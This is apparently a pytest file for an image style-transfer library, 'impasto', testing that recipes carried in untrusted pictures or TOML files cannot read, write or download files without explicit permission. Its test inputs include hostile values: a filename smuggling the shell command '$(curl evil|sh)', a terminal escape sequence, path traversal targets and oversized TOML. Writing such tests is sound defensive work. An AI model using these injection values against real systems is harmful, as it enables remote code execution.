"""A stranger's recipe neither writes nor reads a file nor downloads, unless the user names it in that call."""

import ast
import importlib.metadata
import os
import shlex
import subprocess
import sys
import time
from pathlib import Path

import pytest
import torch

import impasto
from impasto import cli
from impasto.errors import RecipeError
from impasto.picture import Metadata
from impasto.pipeline import load_recipe

PLANT = """
[[stages]]
stage = "gatys"
steps = 100
encoder = "slim19"
coarsest = 16
checkpoint = "{target}"
"""
COPY = """
[[stages]]
stage = "gatys"
steps = 1
init = "file"
init_file = "{target}"
encoder = "slim19"
"""
DOWNLOAD = """
[[stages]]
stage = "gatys"
encoder = "vgg19"
"""
HONEST = """
[[stages]]
stage = "gatys"
steps = 1
encoder = "slim19"
coarsest = 16
"""


@pytest.fixture(autouse=True)
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(torch.hub, "get_dir", lambda: str(tmp_path / "hub"))
    impasto.read(torch.rand(1, 3, 24, 24)).save("photo.png")
    impasto.read(torch.rand(1, 3, 24, 24)).save("private.png")
    return tmp_path


def carried(recipe):
    """A picture that carries a recipe."""
    return impasto.read(torch.rand(1, 3, 16, 16)).replace(meta=Metadata(recipe=recipe)).save("stranger.png")


def beside(recipe):
    """A picture with a recipe beside it, as other formats have it."""
    path = impasto.read(torch.rand(1, 3, 16, 16)).save("stranger.jpg")
    Path("stranger.jpg.toml").write_text(recipe, encoding="utf-8")
    return path


@pytest.mark.parametrize("picture", [carried, beside])
@pytest.mark.parametrize(
    ("recipe", "message"),
    [
        (PLANT, r"asks gatys to write the file '.*planted' \(checkpoint\), which a picture may not"),
        (COPY, r"(?s)asks gatys to read '.*' \(init_file\).*allow=.*planted"),
        (COPY.replace("gatys", "reconstruct"), r"asks reconstruct to read '.*' \(init_file\)"),
        ('[[stages]]\nstage = "mask-file"\npath = "{target}"', r"asks mask-file to read '.*' \(path\)"),
        ('[[stages]]\nstage = "mask-file"\npath = ""\nstyles = ["{target}"]', r"mask-file to read '.*' \(styles\)"),
        ('[[stages]]\nstage = "adain"\ndecoder = "d"\nencoder = "{target}"', r"asks adain to read '.*' \(encoder\)"),
        ('[[stages]]\nstage = "adain"\ndecoder = "{target}"', r"asks adain to read '.*' \(decoder\)"),
        ('[[stages]]\nstage = "wct"\ndecoders = "/"', r"asks wct to read '/' \(decoders\)"),
        ('[[stages]]\nstage = "fast"\nnetwork = "/"', r"asks fast to read '/' \(network\)"),
        ('[[stages]]\nstage = "cyclegan"\nnetwork = "~/x.pth"', r"asks cyclegan to read '~/x.pth' \(network\)"),
        ('[[stages]]\nstage = "semantic"\nfile = "{target}"', r"asks semantic to read '.*' \(file\)"),
        ('[[stages]]\nstage = "mask-grabcut"\nscribbles = "{target}"', r"asks mask-grabcut to read '.*'"),
        (DOWNLOAD, r"(?s)asks gatys to download vgg19-.*, 575 MB.*allow=.*vgg19-"),
    ],
)
def test_a_picture_s_recipe_may_not(picture, recipe, message, folder, monkeypatch):
    monkeypatch.chdir(folder)  # a long path is cut in the message
    path = picture(recipe.format(target="./planted"))
    with pytest.raises(RecipeError, match=message):
        impasto.Pipeline.load(path)
    assert not (folder / "planted").exists()


@pytest.mark.parametrize(
    "recipe",
    [
        '[[stages]]\nstage = "mask-file"\npath = "vgg19"',
        '[[stages]]\nstage = "wct"\nencoder = "slim19-half"\ndecoders = "slim19"',
        '[[stages]]\nstage = "gatys"\nencoder = "~nobody-x/a.pth"',
        '[[stages]]\nstage = "gatys"\nencoder = "a\\u0000b"',
    ],
)
def test_a_file_called_like_a_network_or_like_nothing_is_a_file(recipe):
    with pytest.raises(RecipeError, match="to read"):
        impasto.Pipeline.load(carried(recipe))


def test_what_is_to_be_typed_is_quoted_for_python_and_for_the_shell(capsys):
    path = carried('[[stages]]\nstage = "gatys"\nencoder = "it\'s$(curl evil|sh).pth"')
    with pytest.raises(RecipeError) as caught:
        impasto.Pipeline.load(path)
    typed = str(caught.value).partition("what to type: Pipeline.load(..., allow=")[2].removesuffix(")")
    assert ast.literal_eval(typed) == ["it's$(curl evil|sh).pth"]
    assert cli.main(["run", str(path), "--content", "photo.png", "-o", "out.png"]) == 2
    typed = capsys.readouterr().err.partition("what to type: ")[2]
    assert shlex.split(typed) == ["--allow", "it's$(curl evil|sh).pth"]


def test_one_name_is_allowed_as_a_string_too():
    path = carried(COPY.format(target="private.png"))
    assert impasto.Pipeline.load(path, allow="private.png").stages
    with pytest.raises(RecipeError):
        impasto.Pipeline.load(carried('[[stages]]\nstage = "wct"\ndecoders = "/"'), allow="/x")


def test_what_is_allowed_by_name_is_read_and_nothing_else():
    path = carried(COPY.format(target="private.png"))
    (stage,) = impasto.Pipeline.load(path, allow=["private.png"]).stages
    assert stage.init_file == "private.png"
    with pytest.raises(RecipeError, match=r"private\.png"):
        impasto.Pipeline.load(path, allow=["photo.png"])
    with pytest.raises(RecipeError, match="write"):
        impasto.Pipeline.load(carried(PLANT.format(target="planted")), allow=["planted"])


def test_a_toml_of_one_s_own_may_do_what_it_says_and_a_stranger_s_may_not():
    Path("own.toml").write_text(COPY.format(target="private.png"))
    assert impasto.Pipeline.load("own.toml").stages[0].init_file == "private.png"
    with pytest.raises(RecipeError, match=r"private\.png"):
        impasto.Pipeline.load("own.toml", untrusted=True)


def test_names_of_networks_that_ship_are_no_files():
    recipe = HONEST + '[[stages]]\nstage = "cyclegan"\nnetwork = "impressionism"\n'
    names = [stage.name for stage in impasto.Pipeline.load(carried(recipe)).stages]
    assert names == ["gatys", "cyclegan"]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[[stages]]\nstage = 'gatys'\ncontent_weight = 1" + "0" * 400, "content_weight = 1000"),
        ("made = [1]\n[[stages]]\nstage = 'gatys'", "does not fit"),
        ("made = 'x'\n[[stages]]\nstage = 'gatys'", "does not fit"),
        ("[made]\nseed = 99999999999999999999\n[[stages]]\nstage = 'gatys'", "does not fit"),
        ("[made]\nprecision = 'float8'\n[[stages]]\nstage = 'gatys'", "does not fit"),
        ("[[stages]]\nstage = 'gatys'\ncls = 1", "has no parameter 'cls'"),
        ("x = " + "[" * 4000, "not valid TOML"),
        ("x = " + "{a=" * 4000, "not valid TOML"),
        ("x = " + "1" * 5000, "a number of thousands of digits"),
        (".".join("a" * 20000) + " = 1", "a key of more than sixteen parts"),
        (".".join(['"%"'] * 15000) + " = 1", "a key of more than sixteen parts"),
        ("[[stages]]\nstage = 'gatys'\nsteps = 1e300", "steps = 1e\\+300 does not fit"),
    ],
)
def test_a_hostile_text_is_refused_soon_and_in_few_words(text, message):
    Path("hostile.toml").write_text(text)
    began = time.monotonic()
    with pytest.raises(ValueError, match=message) as caught:
        load_recipe("hostile.toml")
    assert time.monotonic() - began < 5
    assert len(str(caught.value)) < 1000


def test_text_from_a_file_reaches_the_terminal_without_its_escapes(capsys):
    Path("hostile.toml").write_text('[[stages]]\nstage = "gatys"\noptimiser = "\\u001b]0;owned\\u0007"\n')
    assert cli.main(["run", "hostile.toml", "--content", "photo.png", "-o", "out.png"]) == 2
    assert "\x1b" not in capsys.readouterr().err


WATCHED = """
import sys
touched = []
def hook(event, arguments):
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        name, mode = str(arguments[0]), arguments[1] or ""
        if "private" in name or "planted" in name or any(letter in str(mode) for letter in "wxa+"):
            touched.append((event, name, mode))
    elif event.startswith("socket."):
        touched.append((event,))
sys.addaudithook(hook)
from impasto.cli import main
code = main(sys.argv[1:])
# Python keeps the bytecode of what it imports; the folder of the output is tried before anything is painted.
usual = "__pycache__", "/dev/null", ".impasto-"
print(code, [entry for entry in touched if not any(name in str(entry) for name in usual)])
"""


@pytest.mark.parametrize(
    ("recipe", "source"),
    [(PLANT, "picture"), (COPY, "toml"), (DOWNLOAD, "picture")],
    ids=["plant", "copy", "download"],
)
def test_the_command_line_opens_nothing_that_a_hostile_recipe_asks_for(recipe, source, folder):
    recipe = recipe.format(target=(folder / "private.png").as_posix())
    if source == "picture":
        given = [str(carried(recipe))]
    else:
        Path("stranger.toml").write_text(recipe)
        given = ["stranger.toml", "--untrusted"]
    command = [sys.executable, "-c", WATCHED, "run", *given, "--content", "photo.png", "--style", "photo.png"]
    result = subprocess.run(
        [*command, "-o", "out.png"],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "TORCH_HOME": str(folder), "PYTHONDONTWRITEBYTECODE": "1"},
    )
    assert result.stdout.strip() == "2 []", result.stderr
    assert not Path("out.png").exists()


class Plain(torch.nn.Module):
    """An encoder of a plugin."""

    name, layers = "plain", ("fine",)
    channels, strides = {"fine": 3}, {"fine": 1}

    def features(self, image, layers):
        return dict.fromkeys(layers, image)


class PlainDecoder(torch.nn.Module):
    """A decoder of a plugin."""

    layers, channels = ("fine",), {"fine": 3}

    def forward(self, features):
        return features["fine"]


FAR = impasto.Weights("far.safetensors", "0" * 64, 9_000_000, "MIT", "a test", "nothing", url="https://x.invalid/far")


@pytest.fixture
def offered(monkeypatch):
    """Install a plugin of encoders and decoders, one of each to be downloaded."""

    class Networks:
        @impasto.hookimpl
        def impasto_encoders(self):
            return {"plain": Plain, "far": lambda: impasto.weights.find(FAR)}

        @impasto.hookimpl
        def impasto_decoders(self):
            names = ("plain-fine", "plain-coarse", "mine")
            return dict.fromkeys(names, PlainDecoder) | {"far": lambda: impasto.weights.find(FAR)}

    host = impasto.Host(Networks(), *(point.load() for point in importlib.metadata.entry_points(group="impasto")))
    monkeypatch.setattr("impasto.host.registry._installed", lambda: host)


@pytest.mark.parametrize(
    "stages",
    [
        'stage = "gatys"\nencoder = "plain"',
        'stage = "mrf"\nencoder = "plain"',
        'stage = "adain"\nencoder = "plain"\ndecoder = "mine"',
        'stage = "wct"\nencoder = "plain"\ndecoders = "plain"',
        'stage = "wct"\ndecoders = "wct-slim19"',
    ],
)
def test_what_installed_plugins_offer_is_no_file_to_a_stranger_s_recipe(offered, stages, capsys):
    picture = carried(f"[[stages]]\n{stages}")
    Path("plain").write_bytes(b"a file that is called so")
    assert impasto.Pipeline.load(picture).stages
    Path("own.toml").write_text(f"[[stages]]\n{stages}")
    assert impasto.Pipeline.load("own.toml", untrusted=True).stages
    assert cli.main(["doctor", str(picture)]) == 0
    assert "--allow" not in capsys.readouterr().out


@pytest.mark.parametrize(
    "stages",
    ['stage = "gatys"\nencoder = "far"', 'stage = "adain"\nencoder = "plain"\ndecoder = "far"'],
)
def test_a_network_of_a_plugin_is_not_downloaded_for_a_stranger_s_recipe(offered, stages):
    picture = carried(f"[[stages]]\n{stages}")
    with pytest.raises(RecipeError, match=r"(?s)to download far\.safetensors, 9 MB.*allow=\['far\.safetensors'\]"):
        impasto.Pipeline.load(picture)
    assert impasto.Pipeline.load(picture, allow=["far.safetensors"]).stages


def test_a_family_of_decoders_never_means_the_folder_of_its_name(offered):
    Path("plain").mkdir()
    Path("plain/decoder.pth").write_bytes(b"a file of the folder")
    with pytest.raises(LookupError, match="no installed plugin offers a decoder called 'plain-relu4_1'"):
        impasto.decoder("plain", layer="relu4_1")
    assert impasto.decoder("plain", layer="fine").layers == ("fine",)
